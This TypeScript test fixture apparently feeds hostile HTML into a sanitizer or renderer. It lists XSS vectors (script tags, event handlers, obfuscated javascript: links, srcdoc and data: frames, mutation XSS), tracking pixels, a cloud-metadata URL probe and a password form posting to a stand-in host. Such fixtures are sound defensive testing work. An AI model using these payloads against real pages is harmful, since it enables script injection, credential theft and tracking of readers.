/** Markup that must not be executed, loaded or followed; each report of a hostile project contains a share of it. */
const VECTORS: readonly string[] = [
	`<script>window.pwned = "script"</script>`,
	`<img src="x" onerror="window.pwned = 'onerror'">`,
	`<a href="javascript:window.pwned='link'">Read more</a>`,
	`<a href="  jAvaScRipt&#58;window.pwned='entity'">Read on</a>`,
	`<iframe src="https://frames.invalid/" srcdoc="<script>parent.pwned='srcdoc'</script>"></iframe>`,
	`<svg onload="window.pwned='svg'"><script>window.pwned="svg script"</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="window.pwned='mxss'"></style></mglyph></table></mtext></math>`,
	`<img src="https://tracker.invalid/pixel.gif?who=reader" width="1" height="1">`,
	`<img src="http://169.254.169.254/latest/meta-data/" alt="inside">`,
	`<form action="https://collect.invalid/"><input name="password" type="password"><button>Sign in</button></form>`,
	`<p style="position:fixed;inset:0;background:url(https://tracker.invalid/bg.png)">Covered</p>`,
	`<link rel="stylesheet" href="https://tracker.invalid/a.css"><style>body{display:none}</style>`,
	`<meta http-equiv="refresh" content="0;url=https://elsewhere.invalid/"><base href="https://elsewhere.invalid/">`,
	`<object data="data:text/html,<script>parent.pwned='object'</script>"></object><embed src="https://frames.invalid/x.swf">`,
	`<a href="data:text/html,<script>window.pwned='data'</script>" target="_blank">Picture</a>`,
	`<details open ontoggle="window.pwned='toggle'"><summary>More</summary></details><b id="__proto__" name="body">`,
	`<div><p>Never closed <b><i><u>`,
];

export function hostileMarkup(number: number): string {
	return VECTORS.filter((_, index) => number === 1 || index % 3 === number % 3).join("\n");
}
